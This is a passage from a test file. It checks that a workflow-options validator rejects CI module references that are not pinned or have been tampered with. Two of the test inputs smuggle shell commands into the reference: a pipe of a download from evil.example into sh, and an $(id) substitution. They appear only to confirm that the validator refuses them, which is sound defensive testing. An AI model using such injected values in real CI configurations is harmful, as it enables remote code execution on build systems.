    expect(() => workflowOptions("bty-ci@main")).toThrow(/no pinned ref/);
    // The module lands in every run: line, so nothing around the reference gets through.
    expect(() => workflowOptions("github.com/safl/bty-ci@v1.0.0; curl evil.example | sh")).toThrow(/no pinned ref/);
    expect(() => workflowOptions("$(id) github.com/safl/bty-ci@v1.0.0")).toThrow(/no pinned ref/);
    expect(workflowOptions("  github.com/safl/bty-ci@0123abc ")).toEqual({ module: "github.com/safl/bty-ci@0123abc" });
    expect(workflowOptions("")).toEqual({ module: "" });
  });
});
